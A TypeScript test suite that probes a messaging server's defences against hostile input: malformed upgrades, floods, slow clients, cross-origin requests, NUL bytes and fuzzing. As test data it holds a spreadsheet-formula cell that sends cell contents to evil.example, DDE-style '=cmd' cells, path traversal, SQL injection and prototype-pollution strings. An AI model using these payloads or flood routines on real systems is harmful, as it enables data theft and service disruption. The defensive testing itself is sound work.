import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { connect, type Socket } from 'node:net';
import { Writable } from 'node:stream';
import { pino } from 'pino';
import WebSocket from 'ws';
import { io as ioClient, type Socket as IoSocket } from 'socket.io-client';
import { sql } from 'drizzle-orm';
import { startWhatsAppSimulator, type WaSimulator } from '../src/simulators/whatsapp/whatsapp.simulator.ts';
import { jobChannel } from '../src/platform/jobs/job-definition.ts';
import { loggableError } from '../src/platform/http/hostile-input.ts';
import { launchBrowser, needsBrowser } from './support/browser.ts';
import { ADMIN, eventually, freshStorage, modes, runsIn, startPuente, testEnv, waitForJob, type Storage, type TestPuente } from './support/puente.ts';

const CAP = 12;
const SECRET_KEY = 'sk-live-0123456789-SECRET';

async function uploadBulk(p: { url: string; token: string }, content: string, o: { message: string; path?: string }) {
  const form = new FormData();
  form.append('file', new Blob([content]), 'clientes.csv');
  form.append('message', o.message);
  const res = await fetch(`${p.url}${o.path ?? '/messages/send-bulk-file'}`, { method: 'POST', headers: { authorization: `Bearer ${p.token}` }, body: form });
  return { status: res.status, body: (await res.json()) as any };
}

function within<T>(promise: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: NodeJS.Timeout;
  return Promise.race([promise, new Promise<T>((_, reject) => (timer = setTimeout(() => reject(new Error(`timed out after ${ms} ms: ${what}`)), ms)))]).finally(
    () => clearTimeout(timer),
  );
}

/** What a raw TCP client gets back: the first bytes, and whether the server closed the connection. */
function rawExchange(
  port: number,
  request: string | Buffer,
  o: { reset?: 'after-reply' | 'after-send'; waitMs?: number } = {},
): Promise<{ reply: string; closed: boolean }> {
  return new Promise((resolve) => {
    const s: Socket = connect(port, '127.0.0.1');
    let reply = '';
    let done = false;
    const finish = (closed: boolean) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      if (!s.destroyed) s.destroy();
      resolve({ reply, closed });
    };
    const timer = setTimeout(() => finish(false), o.waitMs ?? 5000);
    s.on('error', () => finish(true));
    s.on('close', () => finish(true));
    s.on('data', (d) => {
      reply += d.toString('latin1');
      if (o.reset === 'after-reply') {
        s.resetAndDestroy();
        finish(true);
      }
    });
    s.on('connect', () => {
      s.write(request);
      if (o.reset === 'after-send')
        setImmediate(() => {
          s.resetAndDestroy();
          finish(true);
        });
    });
  });
}

const upgrade = (target: string, extra = '') =>
  `GET ${target} HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n${extra}\r\n`;

/** A logger that keeps every line, to prove what never reaches the logs. */
function capturingLogger() {
  const lines: string[] = [];
  const stream = new Writable({
    write(chunk, _enc, cb) {
      lines.push(String(chunk));
      cb();
    },
  });
  return { logger: pino({ level: 'debug' }, stream), lines };
}

/** A small seeded PRNG, so a failing fuzz run can be replayed with PUENTE_FUZZ_SEED. */
function prng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

for (const mode of modes) {
  describe(`hostile input (${mode})`, runsIn(mode), () => {
    let storage: Storage;
    let sim: WaSimulator;
    let p: TestPuente;
    let port: number;
    const logs = capturingLogger();
    const health = async () => (await fetch(`${p.url}/health`)).status;
    /** A job that stays `processing` (nothing runs it), so that the test decides its events. */
    const openJob = async () => {
      const [row] = await p.ctx.db.query<{ id: string }>(
        `INSERT INTO jobs (id, type, status) VALUES (gen_random_uuid(), 'messaging.bulk-send', 'processing') RETURNING id`,
      );
      return { job: row! };
    };

    before(async () => {
      storage = await freshStorage(mode);
      sim = await startWhatsAppSimulator();
      p = await startPuente(
        testEnv({
          ...storage.env,
          DEFAULT_COUNTRY: 'PE',
          ALLOW_INSECURE_PROVIDER_URLS: 'true',
          REALTIME_MAX_CONNECTIONS_PER_ADDRESS: String(CAP),
          SOCKET_EVENTS_PER_SECOND: '20',
          HTTP_HEADERS_TIMEOUT_MS: '1500',
          HTTP_REQUEST_TIMEOUT_MS: '6000',
          HTTP_CONNECTION_TIMEOUT_MS: '3000',
        }),
        { logger: logs.logger },
      );
      port = Number(new URL(p.url).port);
      const dev = sim.addDevice({ provider: 'simulator' });
      const added = await p.api('/devices', { body: { name: 'sim', provider: 'simulator', base_url: dev.baseUrl, credentials: dev.credentials } });
      assert.equal(added.status, 201, JSON.stringify(added.body));
    });
    after(async () => {
      await p?.close();
      await sim?.close();
      await storage?.dispose();
    });

    test('hostile upgrade targets and TCP resets on every upgrade path leave the server up', async () => {
      const { job } = await openJob();
      const cases: [string, string | Buffer, number | null, 'after-reply' | 'after-send' | undefined][] = [
        ['malformed percent-escape on /ws/job', upgrade('/ws/job/%E0%A4%A'), 400, undefined],
        ['bad absolute target', upgrade('http://[bad/ws/job/x'), 400, undefined],
        ['absolute target to a job socket', upgrade(`http://localhost/ws/job/%ZZ`), 400, undefined],
        ['an upgrade on a plain route', upgrade('/health'), 404, undefined],
        ['bad token, then a reset after the 401', upgrade(`/ws/job/${job.id}?token=forged`), 401, 'after-reply'],
        ['good token, reset during the handshake', upgrade(`/ws/job/${job.id}?token=${p.token}`), null, 'after-send'],
        ['reset in the middle of the headers', 'GET /ws/job/x HTTP/1.1\r\nUpgrade: websocket\r\nConn', null, 'after-send'],
        ['Socket.IO: malformed escape', upgrade('/socket.io/%E0%A4%A?EIO=4&transport=websocket'), null, undefined],
        ['Socket.IO: bad sid', upgrade('/socket.io/?EIO=4&transport=websocket&sid=%E0%A4%A'), null, undefined],
        ['Socket.IO: reset during the handshake', upgrade('/socket.io/?EIO=4&transport=websocket'), null, 'after-send'],
        ['Socket.IO: reset after the handshake answer', upgrade('/socket.io/?EIO=4&transport=websocket'), null, 'after-reply'],
        ['Socket.IO polling: bad escape', 'GET /socket.io/?EIO=4&transport=polling&sid=%E0%A4%A HTTP/1.1\r\nHost: x\r\n\r\n', null, undefined],
      ];
      for (const [what, request, status, reset] of cases) {
        const { reply } = await rawExchange(port, request, { reset, waitMs: 3000 });
        if (status) assert.match(reply, new RegExp(`^HTTP/1\\.1 ${status} `), `${what}: ${reply.slice(0, 120)}`);
        assert.equal(await health(), 200, `the server is up after: ${what}`);
      }
      // Many resets at once, on both paths.
      await Promise.all(
        Array.from({ length: 40 }, (_, i) =>
          rawExchange(port, i % 2 ? upgrade(`/ws/job/${job.id}?token=bad`) : upgrade('/socket.io/?EIO=4&transport=websocket'), {
            reset: i % 3 ? 'after-send' : 'after-reply',
            waitMs: 3000,
          }),
        ),
      );
      assert.equal(await health(), 200);
      // And a real client still works afterwards.
      const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}?token=${p.token}`);
      const first = await new Promise<any>((resolve, reject) => ws.once('message', (m) => resolve(JSON.parse(String(m)))).once('error', reject));
      ws.close();
      assert.equal(first.type, 'subscribed');
    });

    test('a viewer without a token sees no phone number anywhere in an event, and is closed once the job ends', async () => {
      const { job } = await openJob();
      const events: any[] = [];
      const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}`);
      const closed = new Promise<number>((resolve) => ws.on('close', (code) => resolve(code)));
      ws.on('message', (m) => events.push(JSON.parse(String(m))));
      await eventually(async () => events.some((e) => e.type === 'subscribed'), 10_000, 'subscribed');
      const stamp = '2026-12-01T03:04:05.678Z';
      await p.ctx.bus.publish(jobChannel(job.id), {
        type: 'error',
        job_id: job.id,
        device_id: 3,
        phone: '+51987651111',
        at: stamp,
        error: 'Evolution 400: {"exists":false,"jid":"51987651112@s.whatsapp.net","number":"51987651112"}',
        details: { to: '+51 987 651 113', attempts: [{ reason: 'número 0414-555-1234 no existe' }, { raw: '(0212) 555.12.34' }] },
      });
      await p.ctx.bus.publish(jobChannel(job.id), {
        type: 'job_completed',
        job_id: job.id,
        status: 'completed',
        results: { sent: 1, last: '+58 414 5551235' },
      });
      assert.equal(await within(closed, 15_000, 'the token-less socket to be closed'), 1000, 'the token-less socket is closed after the terminal event');
      const text = JSON.stringify(events);
      for (const digits of ['51987651111', '51987651112', '987 651 113', '0414-555-1234', '(0212) 555.12.34', '414 5551235'])
        assert.ok(!text.includes(digits), `${digits} leaked: ${text}`);
      const error = events.find((e) => e.type === 'error');
      assert.equal(error.job_id, job.id, 'ids are not masked');
      assert.equal(error.at, stamp, 'timestamps are not masked');
      assert.equal(error.device_id, 3);
      assert.match(error.details.attempts[0].reason, /^número 041\*+34 no existe$/);
      // With a token, nothing is masked and the socket stays for the caller to close.
      const { job: other } = await openJob();
      const seen: any[] = [];
      const authed = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${other.id}?token=${p.token}`);
      authed.on('message', (m) => seen.push(JSON.parse(String(m))));
      await eventually(async () => seen.some((e) => e.type === 'subscribed'), 10_000, 'subscribed');
      await p.ctx.bus.publish(jobChannel(other.id), { type: 'error', job_id: other.id, error: 'no 51987651112' });
      await eventually(async () => seen.some((e) => e.type === 'error'), 10_000, 'error event');
      assert.equal(seen.find((e) => e.type === 'error').error, 'no 51987651112');
      authed.close();
    });

    test('per-address connection cap on the realtime sockets: the one over it is refused with 429', async () => {
      const { job } = await openJob();
      const open: WebSocket[] = [];
      try {
        for (let i = 0; i < CAP; i++) {
          const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}?token=${p.token}`);
          await new Promise((resolve, reject) => ws.once('open', resolve).once('error', reject));
          open.push(ws);
        }
        const status = await new Promise<number>((resolve) => {
          const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}?token=${p.token}`);
          ws.on('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0))
            .on('open', () => resolve(101))
            .on('error', () => {});
        });
        assert.equal(status, 429);
        const refused = ioClient(`${p.url}/sync`, { auth: { apiKey: 'test-cloud-api-key' }, transports: ['websocket'], reconnection: false });
        const outcome = await new Promise<string>((resolve) => {
          refused.on('disconnect', () => resolve('disconnected'));
          refused.on('connect_error', () => resolve('refused'));
        });
        refused.close();
        assert.ok(['disconnected', 'refused'].includes(outcome));
      } finally {
        for (const ws of open) ws.close();
      }
      // Closed sockets free their places.
      await eventually(
        async () => {
          const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}?token=${p.token}`);
          const ok = await new Promise<boolean>((resolve) =>
            ws
              .once('open', () => resolve(true))
              .once('unexpected-response', () => resolve(false))
              .once('error', () => resolve(false)),
          );
          ws.close();
          return ok;
        },
        10_000,
        'a place to be free again',
      );
    });

    test('one sync client emitting 5,000 sync:orders is rate limited and does not stall /health', async () => {
      const socket: IoSocket = ioClient(`${p.url}/sync`, { auth: { apiKey: 'test-cloud-api-key' }, transports: ['websocket'], reconnection: false });
      await new Promise<void>((resolve, reject) => socket.once('connect', () => resolve()).once('connect_error', reject));
      let answers = 0;
      let limited = 0;
      socket.on('orders:pending', () => answers++);
      socket.on('rate_limited', () => limited++);
      const disconnected = new Promise<void>((resolve) => socket.once('disconnect', () => resolve()));
      for (let i = 0; i < 5000; i++) socket.emit('sync:orders');
      let worst = 0;
      for (let i = 0; i < 10; i++) {
        const t = performance.now();
        assert.equal(await health(), 200);
        worst = Math.max(worst, performance.now() - t);
        // Spreads the ten probes over the flood: a sampling interval, nothing is awaited.
        await new Promise((r) => setTimeout(r, 50));
      }
      try {
        await within(disconnected, 15_000, 'the flooding socket to be disconnected');
      } finally {
        socket.close();
      }
      assert.ok(limited >= 1, 'the client is told it is rate limited');
      assert.ok(answers <= 60, `at most the burst is answered (${answers} answers to 5,000 requests)`);
      assert.ok(worst < 2000, `/health answered within 2 s during the flood (worst ${Math.round(worst)} ms)`);
    });

    test('a job socket flooding pings is answered within its budget and then closed', async () => {
      const { job } = await openJob();
      const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}?token=${p.token}`);
      let pongs = 0;
      ws.on('message', (m) => {
        if (JSON.parse(String(m)).type === 'pong') pongs++;
      });
      const closed = new Promise<number>((resolve) => ws.on('close', (code) => resolve(code)));
      await new Promise((resolve, reject) => ws.once('open', resolve).once('error', reject));
      for (let i = 0; i < 1000; i++) ws.send(JSON.stringify({ type: 'ping', timestamp: i }));
      assert.equal(await within(closed, 15_000, 'the flooding job socket to be closed'), 1008);
      assert.ok(pongs <= 60, `${pongs} pongs for 1,000 pings`);
      assert.equal(await health(), 200);
    });

    test('Socket.IO refuses a cross-origin browser and reflects no Origin; same-origin and non-browser clients connect', async () => {
      const evil = await fetch(`${p.url}/socket.io/?EIO=4&transport=polling`, { headers: { origin: 'https://evil.example' } });
      await evil.text();
      assert.notEqual(evil.status, 200);
      assert.equal(evil.headers.get('access-control-allow-origin'), null);
      assert.equal(evil.headers.get('access-control-allow-credentials'), null);
      const same = await fetch(`${p.url}/socket.io/?EIO=4&transport=polling`, { headers: { origin: p.url } });
      assert.equal(same.status, 200);
      const sameText = await same.text();
      assert.match(sameText, /"sid"/);
      const noOrigin = await fetch(`${p.url}/socket.io/?EIO=4&transport=polling`);
      assert.equal(noOrigin.status, 200);
      const noOriginText = await noOrigin.text();
      // A polling session holds a place under the per-address cap until its ping timeout: each is closed
      // (an engine.io close packet) so that the tests after this one find the places free.
      for (const handshake of [sameText, noOriginText]) {
        const { sid } = JSON.parse(handshake.slice(handshake.indexOf('{'))) as { sid: string };
        const closed = await fetch(`${p.url}/socket.io/?EIO=4&transport=polling&sid=${sid}`, { method: 'POST', body: '1' });
        assert.equal(closed.status, 200, await closed.text());
      }
      const ws = new WebSocket(`ws://127.0.0.1:${port}/socket.io/?EIO=4&transport=websocket`, { headers: { origin: 'https://evil.example' } });
      const status = await new Promise<number>((resolve) =>
        ws
          .on('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0))
          .on('open', () => resolve(101))
          .on('error', () => resolve(-1)),
      );
      ws.terminate();
      assert.notEqual(status, 101, 'a cross-origin WebSocket handshake is refused too');
    });

    test('results.csv neutralises cells that a spreadsheet would run as formulas', async () => {
      const file = ['=HYPERLINK("http://evil.example/?x="&A1,"pulse")|a', '+cmd|b', '-2+3|c', '@SUM(1+1)|d', '\t=1+1|e', '+51987650011|ok'].join('\n');
      const r = await uploadBulk(p, file, { message: 'Hola @valor1' });
      assert.equal(r.status, 200, JSON.stringify(r.body));
      await waitForJob(p, r.body.job.id);
      const csv = await (await fetch(`${p.url}/jobs/${r.body.job.id}/results.csv`, { headers: { authorization: `Bearer ${p.token}` } })).text();
      const cells = csv
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\n')
        .slice(1)
        .map((l) => l.split(',')[2]!);
      for (const cell of cells.slice(0, 5)) assert.match(cell, /^"'[=+\-@\t]/, `raw_phone cell ${cell}`);
      assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1`));
      assert.ok(!/(^|,)[=+\-@\t]/m.test(csv.replace(/"[^"]*"/g, '""')), 'no cell starts with a formula character');
    });

    test('NUL bytes in JSON, query, path, form fields and CSV are a 400, never a 500, and secrets never reach the log', async () => {
      const key = SECRET_KEY;
      const device = await p.api('/devices', {
        body: {
          name: 'nul\u0000dev',
          provider: 'evolution',
          base_url: sim.addDevice({ provider: 'evolution' }).baseUrl,
          credentials: { api_key: `${key}\u0000`, instance: 'x' },
        },
      });
      assert.equal(device.status, 400, JSON.stringify(device.body));
      assert.equal(device.body.status, 'error');
      assert.equal(device.body.code, 'http.nul_byte');
      const order = await p.api('/orders', { body: { items: [{ name: 'a\u0000b', quantity: 1, price: 1 }] } });
      assert.deepEqual([order.status, order.body.success, order.body.code], [400, false, 'http.nul_byte']);
      for (const path of ['/api/users?search=%00', '/api/products?search=a%00b', '/jobs/%00']) {
        const r = await p.api(path);
        assert.equal(r.status, 400, `${path}: ${JSON.stringify(r.body)}`);
      }
      const csv = await uploadBulk(p, '+51987650021|ok\n+51987650022|a\u0000b\n', { message: 'x' });
      assert.equal(csv.status, 400);
      assert.deepEqual([csv.body.code, csv.body.line], ['messaging.nul_byte', 2]);
      const field = await uploadBulk(p, '+51987650021|ok\n', { message: 'hola\u0000' });
      assert.equal(field.status, 400);
      assert.deepEqual([field.body.code, field.body.field], ['http.nul_byte', 'message']);
      assert.ok(!logs.lines.join('').includes(key), 'the API key never reaches a log line');
      // A real database error still names its statement in the log, but none of the values.
      const err = await p.ctx.db.orm.execute(sql`SELECT ${key}::int AS n`).catch((e: unknown) => e);
      assert.ok(err instanceof Error);
      assert.ok(
        String((err as Error).message).includes(key) || JSON.stringify((err as { params?: unknown }).params ?? '').includes(key),
        'the driver error does carry the value',
      );
      const safe = JSON.stringify(loggableError(err));
      assert.ok(!safe.includes(key), safe);
      assert.match(safe, /SELECT \$1::int/);
      assert.match(safe, /"code":"22P02"/);
    });

    test('a file that is one very long line is refused at the row cap, quickly, naming the line', async () => {
      const huge = '+51987654321|' + 'x'.repeat(20 * 1024 * 1024);
      const t = performance.now();
      const form = new FormData();
      form.append('message', 'Hola @valor1');
      form.append('file', new Blob([huge]), 'x.csv');
      const res = await fetch(`${p.url}/messages/preview`, { method: 'POST', headers: { authorization: `Bearer ${p.token}` }, body: form });
      const body = (await res.json()) as any;
      const ms = performance.now() - t;
      assert.equal(res.status, 400, JSON.stringify(body).slice(0, 300));
      assert.equal(body.code, 'messaging.line_too_long');
      assert.deepEqual([body.line, body.max_bytes], [1, 64 * 1024]);
      assert.ok(ms < 15_000, `refused in ${Math.round(ms)} ms`);
      const third = await uploadBulk(p, `+51987650031|a\n+51987650032|b\n+51987650033|${'y'.repeat(70 * 1024)}\n`, { message: 'x', path: '/messages/preview' });
      assert.equal(third.status, 400);
      assert.deepEqual([third.body.code, third.body.line], ['messaging.line_too_long', 3]);
      const fits = await uploadBulk(p, `+51987650031|${'z'.repeat(60 * 1024)}\n`, { message: 'x', path: '/messages/preview' });
      assert.equal(fits.status, 200, 'a row under the cap is fine');
    });

    test("messages over WhatsApp's 4,096 characters: the preview lists the rows, the send fails them with the reason", async () => {
      const message = '@valor1'.repeat(585);
      const file = ['phone|@valor1', '+51987650041|' + 'v'.repeat(60_000), '+51987650042|ok', '+51987650043|' + 'w'.repeat(10)].join('\n');
      const form = new FormData();
      form.append('file', new Blob([file]), 'x.csv'); // the file before the message: measured at the end
      form.append('message', message);
      const res = await fetch(`${p.url}/messages/preview`, { method: 'POST', headers: { authorization: `Bearer ${p.token}` }, body: form });
      const preview = (await res.json()) as any;
      assert.equal(res.status, 200, JSON.stringify(preview).slice(0, 300));
      assert.deepEqual(
        preview.too_long.rows.map((r: any) => r.line),
        [2, 4],
      );
      assert.equal(preview.too_long.count, 2);
      assert.equal(preview.too_long.rows[0].length, 60_000 * 585);
      assert.equal(preview.samples[0].text, null);
      assert.equal(preview.samples[1].text.length, 2 * 585);
      const short = await uploadBulk(p, file, { message: 'Hola, sin variables', path: '/messages/preview' });
      assert.equal(short.body.too_long.count, 0);
      sim.reset();
      const sent = await uploadBulk(p, file, { message });
      assert.equal(sent.status, 200, JSON.stringify(sent.body));
      const done = await waitForJob(p, sent.body.job.id);
      assert.deepEqual([done.results.sent, done.results.failed], [1, 2], JSON.stringify(done));
      assert.equal(sim.messages.length, 1, 'only the row that fits reaches the device');
      const csv = await (await fetch(`${p.url}/jobs/${sent.body.job.id}/results.csv`, { headers: { authorization: `Bearer ${p.token}` } })).text();
      assert.equal((csv.match(/mensaje demasiado largo: tendría \d+ caracteres, el máximo de WhatsApp es 4096/g) ?? []).length, 2);
    });

    test('POST /orders with a customer_id that is not a user is a 422 saying what it must be', async () => {
      const r = await p.api('/orders', { body: { customer_id: 987654, items: [{ name: 'x', quantity: 1, price: 2 }] } });
      assert.equal(r.status, 422, JSON.stringify(r.body));
      assert.equal(r.body.success, false);
      assert.equal(r.body.code, 'sync.customer_not_found');
      assert.equal(r.body.customer_id, 987654);
      const ok = await p.api('/orders', { body: { items: [{ name: 'x', quantity: 1, price: 2 }] } });
      assert.equal(ok.status, 201);
    });

    test('malformed multipart is a 400, not a 500', async () => {
      const post = (body: string, type = 'multipart/form-data; boundary=XyZ') =>
        fetch(`${p.url}/messages/preview`, { method: 'POST', headers: { authorization: `Bearer ${p.token}`, 'content-type': type }, body }).then(async (r) => ({
          status: r.status,
          body: (await r.json()) as any,
        }));
      const cases = [
        post('--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n+51987650051|a\r\n'), // never closed
        post(
          '--XyZ\r\nContent-Disposition: form-data; name="message"\r\n\r\nhola\r\n--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n+51987650051|a',
        ),
        post('garbage that is not multipart at all'),
        post('--XyZ\r\nContent-Dispos\r\n\r\n--XyZ--'),
        post('--XyZ--\r\n', 'multipart/form-data'),
      ];
      for (const r of await Promise.all(cases)) {
        assert.equal(r.status, 400, JSON.stringify(r.body));
        assert.equal(r.body.status, 'error');
      }
      assert.equal(await health(), 200);
    });

    test('slow clients are cut off: trickled headers by the headers timeout, a trickled body by the request timeout', async () => {
      const t = performance.now();
      const headers = await rawExchange(port, 'GET /health HTTP/1.1\r\nHost: x\r\n', { waitMs: 20_000 });
      assert.ok(headers.closed, 'unfinished headers are not waited for forever');
      assert.ok(performance.now() - t < 15_000);
      const body = await new Promise<{ closed: boolean; reply: string; ms: number }>((resolve) => {
        const start = performance.now();
        const s = connect(port, '127.0.0.1');
        let reply = '';
        const drip = setInterval(() => s.writable && s.write('x'), 500);
        const end = (closed: boolean) => {
          clearInterval(drip);
          clearTimeout(giveUp);
          s.destroy();
          resolve({ closed, reply, ms: performance.now() - start });
        };
        const giveUp = setTimeout(() => end(false), 25_000);
        s.on('data', (d) => (reply += d));
        s.on('close', () => end(true));
        s.on('error', () => end(true));
        s.write(`POST /orders HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nAuthorization: Bearer ${p.token}\r\nContent-Length: 100000\r\n\r\n`);
      });
      assert.ok(body.closed, 'a body trickled for ever is cut off');
      assert.ok(body.ms < 20_000, `cut after ${Math.round(body.ms)} ms`);
      assert.equal(await health(), 200);
    });

    test('security headers: CSP, frame, nosniff and referrer policy on the dashboard, the API and /docs', async () => {
      for (const path of ['/', '/health', '/docs/static/index.html']) {
        const res = await fetch(`${p.url}${path}`);
        await res.arrayBuffer();
        assert.equal(res.headers.get('x-content-type-options'), 'nosniff', path);
        assert.equal(res.headers.get('x-frame-options'), 'DENY', path);
        assert.equal(res.headers.get('referrer-policy'), 'no-referrer', path);
        const csp = res.headers.get('content-security-policy') ?? '';
        assert.match(csp, /default-src 'self'/, path);
        assert.match(csp, /frame-ancestors 'none'/, path);
        assert.match(csp, /script-src 'self'(;|$)/, `${path}: no inline scripts (${csp})`);
        if (path === '/') assert.match(csp, new RegExp(`connect-src 'self' ws://127\\.0\\.0\\.1:${port} wss://`), csp);
      }
    });

    if (mode === 'embedded') {
      test('the dashboard and /docs work in Chromium under the CSP, with no violation reported', needsBrowser, async () => {
        const browser = await launchBrowser();
        try {
          const page = await browser.newPage();
          const violations: string[] = [];
          page.on('console', (m) => {
            if (/Content Security Policy|Refused to/i.test(m.text())) violations.push(m.text());
          });
          await page.exposeFunction('reportViolation', (v: string) => violations.push(v));
          await page.addInitScript({
            content: "document.addEventListener('securitypolicyviolation', (e) => window.reportViolation(e.violatedDirective + ' ' + e.blockedURI))",
          });
          await page.goto(p.url);
          await page.locator('input[type="email"]').fill(ADMIN.email);
          await page.locator('input[type="password"]').fill(ADMIN.password);
          await page.locator('form button[type="submit"], form button').first().click();
          await page.getByRole('navigation').waitFor({ timeout: 20_000 });
          await page.waitForLoadState('networkidle');
          await page.goto(`${p.url}/docs`);
          await page.locator('.swagger-ui .info .title').waitFor({ timeout: 20_000 });
          await page.locator('.opblock').first().waitFor();
          assert.deepEqual(violations, []);
        } finally {
          await browser.close();
        }
      });
    }

    test('fuzz: random and hostile JSON, queries, multipart and upgrade targets never get a 500 and leave the server up', async () => {
      const seed = Number(process.env.PUENTE_FUZZ_SEED ?? Date.now() % 1_000_000);
      const rand = prng(seed);
      const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
      const strings = [
        '',
        'a',
        '\u0000',
        '%00',
        '\uFFFF',
        '\uD800',
        '💥',
        'x'.repeat(5000),
        '=cmd|x',
        '../../etc/passwd',
        '<script>',
        "' OR 1=1--",
        '%E0%A4%A',
        '\r\n',
        '@valor1'.repeat(50),
        '-1',
        '1e309',
        'NaN',
        '__proto__',
      ];
      const value = (depth = 0): unknown => {
        const r = rand();
        if (depth > 3 || r < 0.3) return pick(strings);
        if (r < 0.45) return pick([0, -1, 1.5, 2 ** 53, -(2 ** 31), 1e308, 999999999]);
        if (r < 0.55) return pick([null, true, false]);
        if (r < 0.75) return Array.from({ length: Math.floor(rand() * 4) }, () => value(depth + 1));
        const keys = [
          'name',
          'email',
          'items',
          'quantity',
          'price',
          'customer_id',
          'external_ref',
          'notes',
          'seq',
          'status',
          'password',
          'code',
          'provider',
          'base_url',
          'credentials',
          '__proto__',
          'constructor',
          pick(strings),
        ];
        return Object.fromEntries(Array.from({ length: Math.floor(rand() * 5) }, () => [pick(keys), value(depth + 1)]));
      };
      const routes: [string, string][] = [
        ['POST', '/orders'],
        ['PATCH', '/orders/1'],
        ['POST', '/orders/1/cancel'],
        ['POST', '/auth/login'],
        ['POST', '/auth/refresh'],
        ['POST', '/devices'],
        ['PATCH', '/devices/1'],
        ['POST', '/sync/confirm'],
        ['POST', '/api/sync-clients'],
        ['GET', '/orders'],
        ['GET', '/api/users'],
        ['GET', '/devices'],
        ['GET', '/jobs'],
        ['GET', '/sync/pull-changes'],
        ['GET', '/api/products'],
      ];
      const raws = [
        '{',
        '{"a":',
        '[1,2',
        '"\\u0000"',
        '{"items":[{"name":"\\u0000","quantity":1,"price":1}]}',
        'null',
        '1e999',
        '{"__proto__":{"x":1}}',
        '\u0000',
        '{"a":"\\ud800"}',
      ];
      const failures: string[] = [];
      for (let i = 0; i < 250; i++) {
        const [method, path] = pick(routes);
        const query =
          rand() < 0.5
            ? `?${pick(['page', 'per_page', 'search', 'status', 'limit', 'x'])}=${encodeURIComponent(String(pick(strings)).toWellFormed())}&${pick(['page', 'q'])}=${pick(['%00', '%E0%A4%A', '-1', '99999999999999999999', '%', '%%'])}`
            : '';
        const auth = pick([`Bearer ${p.token}`, 'Bearer test-cloud-api-key', 'Bearer x', undefined]);
        const body = method === 'GET' ? undefined : rand() < 0.3 ? pick(raws) : JSON.stringify(value());
        const headers: Record<string, string> = {};
        if (auth) headers.authorization = auth;
        if (body !== undefined) headers['content-type'] = pick(['application/json', 'application/json', 'text/plain', 'application/x-www-form-urlencoded']);
        const res = await fetch(`${p.url}${path}${query}`, { method, headers, body }).catch((e: Error) => ({ status: -1, text: async () => e.message }));
        const text = await res.text();
        if (res.status >= 500 || res.status < 0) failures.push(`${method} ${path}${query} ${body?.slice(0, 200)} → ${res.status} ${text.slice(0, 200)}`);
      }
      for (let i = 0; i < 40; i++) {
        const form = new FormData();
        const parts = ['file', 'message', 'devices_limit', 'template', pick(strings)];
        for (let k = 0; k < 1 + Math.floor(rand() * 4); k++) {
          const name = pick(parts);
          if (rand() < 0.5)
            form.append(
              name,
              new Blob([
                Array.from(
                  { length: 1 + Math.floor(rand() * 5) },
                  () => `${pick(['+51987650061', '', 'abc', '\uFEFF+51987650062', '\u0000'])}|${pick(strings)}`,
                ).join(pick(['\n', '\r\n', '\r'])),
              ]),
              pick(['a.csv', 'a.txt', 'a.xlsx', '', '../x.csv']),
            );
          else form.append(name, String(pick(strings)));
        }
        const res = await fetch(`${p.url}${pick(['/messages/preview', '/messages/send-bulk-file'])}`, {
          method: 'POST',
          headers: { authorization: `Bearer ${p.token}` },
          body: form,
        });
        const text = await res.text();
        if (res.status >= 500) failures.push(`multipart #${i} → ${res.status} ${text.slice(0, 200)}`);
      }
      const targets = [
        '/ws/job/',
        '/ws/job/%',
        '/ws/job/%E0%A4%A',
        '/ws/job/../../x',
        'http://[bad/ws/job/x',
        '//ws/job/x',
        '/ws/job/x?token=%ZZ',
        '/socket.io/?EIO=9&transport=websocket',
        '/socket.io/?EIO=4&transport=polling',
        '/socket.io/%',
        '*',
        '/ws/job/\u00e9',
      ];
      for (let i = 0; i < 60; i++) {
        const target = pick(targets) + (rand() < 0.3 ? encodeURIComponent(String(pick(strings)).toWellFormed()).slice(0, 100) : '');
        const { reply } = await rawExchange(port, Buffer.from(upgrade(target), 'latin1'), {
          reset: pick(['after-send', 'after-reply', undefined] as const),
          waitMs: 1500,
        });
        if (/^HTTP\/1\.1 5\d\d/.test(reply)) failures.push(`upgrade ${target} → ${reply.slice(0, 100)}`);
      }
      assert.deepEqual(failures, [], `fuzz seed ${seed}`);
      assert.equal(await health(), 200, `fuzz seed ${seed}: the server is up`);
    });
  });
}
